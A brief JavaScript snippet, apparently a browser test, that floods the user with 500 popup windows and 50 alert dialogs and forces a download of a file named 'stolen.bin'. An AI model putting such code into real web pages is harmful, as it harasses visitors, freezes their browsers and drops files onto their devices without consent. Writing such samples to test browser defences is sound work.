document.body.innerHTML = '<div style="width: 50px; height: 50px; background: blue"></div>';
for (let i = 0; i < 500; i++) open('about:blank', `w${i}`, 'popup');
for (let i = 0; i < 50; i++) alert(`${i}`);
const link = document.createElement('a');
link.href = 'data:application/octet-stream,rk';
link.download = 'stolen.bin';
link.click();
